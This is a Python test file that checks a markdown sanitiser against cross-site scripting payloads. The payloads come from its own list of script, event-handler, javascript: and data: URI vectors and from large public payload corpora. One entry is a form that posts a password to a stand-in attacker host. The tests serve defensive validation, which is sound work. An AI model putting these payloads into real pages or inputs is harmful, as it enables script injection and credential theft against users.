"""Attacks: our own collection in every clone, the large public ones where they lie beside it."""

import json
import re

from markup.from_html import to_markdown
from markup.render import IMPORTED, render, render_reply
from markup.sanitise import sanitise
from tests.markup.strict import wrong_in
from tests.real_data import real_data

OWN = [
    "<script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "![x](javascript:alert(1))",
    '![x](https://a.example/" onerror="alert(1))',
    '[a](https://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a]: /x "\'><script>alert(1)</script>"\n\n[a]',
    '```"><script>alert(1)</script>\ncode\n```',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<form action=//evil.example><input name=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<template><script>alert(1)</script></template>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|`<script>`|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "http://a.example/<script>alert(1)</script>",
    'www.a.example/"onclick=alert(1)//',
]


def all_ways(payload):
    """Each way a text of somebody else can take to a page."""
    yield render(payload, flatten=True, limits=IMPORTED).html
    yield sanitise(payload)
    if len(payload) <= 3_000:
        yield render(f"[a]({payload}) ![b]({payload}) `{payload}`", flatten=True).html
        yield render(to_markdown(payload), flatten=True, limits=IMPORTED).html
        if payload.count("\n") < 90:
            yield render_reply(payload).html


def check(payloads):
    found = {payload: wrong for payload in payloads for html in all_ways(payload) if (wrong := wrong_in(html))}
    assert found == {}


def test_our_own_attacks_come_to_nothing():
    check(OWN)


def test_the_cross_site_collection_comes_to_nothing():
    lines = set()
    for file in real_data("security", "payloadbox-xss").rglob("*.txt"):
        lines |= set(file.read_text(errors="replace").splitlines())
    assert len(lines) > 2_000
    check(sorted(lines))


def test_the_naughty_strings_come_to_nothing():
    strings = json.loads(real_data("security", "blns", "blns.json").read_text())
    assert len(strings) > 500
    check(strings)


def test_the_parser_trees_come_to_nothing():
    cases = []
    for file in sorted(real_data("security", "html5lib-tests", "tree-construction").rglob("*.dat")):
        cases += re.findall(r"#data\n(.*?)\n#errors", file.read_text(errors="replace"), re.DOTALL)
    assert len(cases) > 1_500
    check(cases)


def test_the_examples_of_commonmark_come_to_nothing():
    spec = real_data("security", "commonmark", "spec.txt").read_text()
    examples = re.findall(r"^`{32} example\n(.*?)^\.\n", spec, re.DOTALL | re.MULTILINE)
    assert len(examples) > 600
    check([example.replace("→", "\t") for example in examples])
